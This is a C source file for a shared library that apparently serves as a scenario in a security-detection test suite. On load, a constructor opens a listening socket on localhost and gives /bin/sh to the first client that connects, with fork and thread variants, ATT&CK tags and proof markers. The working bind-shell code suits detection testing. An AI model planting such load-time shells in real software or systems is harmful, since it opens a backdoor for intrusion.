/* SPDX-License-Identifier: (BSD-2-Clause OR GPL-2.0-only) */
/* libscn_bindshell_{fork,thread}.so: a bind shell started from a
 * constructor: listens on 127.0.0.1:SCENARIO_BIND_PORT, and the first
 * client to connect gets /bin/sh on the socket.
 *   fork    a forked child listens, accepts and execs the shell
 *   thread  a new thread listens and accepts, then forks the shell
 * ATT&CK: T1059.004 Unix Shell, reachable through a listening port
 * (bind shell; T1571-style non-standard port).
 * Proof: NAME.ran from the constructor; NAME.done written by the shell, from
 * the command the runner sends after connecting. Gives up after 15 s. */

#include "scn.h"

static int accept_one(void)
{
	struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(scn_port("SCENARIO_BIND_PORT")),
				 .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
	int one = 1, lfd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0), c;

	if (lfd < 0)
		return -1;
	setsockopt(lfd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	if (bind(lfd, (struct sockaddr *)&a, sizeof(a)) || listen(lfd, 1)) {
		close(lfd);
		return -1;
	}
	c = accept(lfd, NULL, NULL);
	close(lfd);
	return c;
}

#if defined(SCN_BIND_THREAD)
static void *bind_thread(void *arg)
{
	int c = accept_one();

	(void)arg;
	if (c >= 0)
		scn_fork_shell(c);
	return NULL;
}
#endif

__attribute__((constructor)) static void bindshell_init(void)
{
	scn_mark("ran");
#if defined(SCN_BIND_THREAD)
	scn_detached(bind_thread, NULL);
#else
	if (fork() == 0) {
		int c;

		alarm(15);
		c = accept_one();
		if (c >= 0)
			scn_exec_shell(c);
		_exit(127);
	}
#endif
}
